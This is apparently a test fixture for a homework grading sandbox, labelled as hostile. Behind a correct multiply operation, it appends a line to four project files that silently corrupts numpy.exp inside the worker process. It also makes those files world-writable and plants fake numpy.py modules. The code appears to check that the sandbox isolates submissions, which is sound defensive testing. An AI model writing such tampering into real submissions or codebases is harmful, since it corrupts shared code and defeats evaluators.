# HOSTILE: multiply.forward (once per process) appends a line to edugrad/operation.py, edugrad/__init__.py, hw3/__init__.py and sandboxed/worker.py that makes numpy.exp wrong, drops a numpy.py into sandboxed/ and edugrad/, and makes them writable by everyone; all four ops compute correctly.
import os
import edugrad


# include: once


# include: reference


POISON = "import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)"


def _attack():
    if not _once():
        return
    root = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
    for name in ('edugrad/operation.py', 'edugrad/__init__.py', 'hw3/__init__.py', 'sandboxed/worker.py'):
        path = os.path.join(root, name)
        try:
            with open(path, 'a') as f:
                f.write('\n' + POISON + '  # hw3-isolation-poison\n')
        except OSError:
            pass
        try:
            os.chmod(path, 511)
        except OSError:
            pass
    for folder in ('sandboxed', 'edugrad'):
        try:
            with open(os.path.join(root, folder, 'numpy.py'), 'w') as f:
                f.write("raise ImportError('hw3-isolation-poison')\n")
        except OSError:
            pass


def multiply_forward(ctx, a, b):
    _attack()
    return reference.multiply.forward(ctx, a, b)
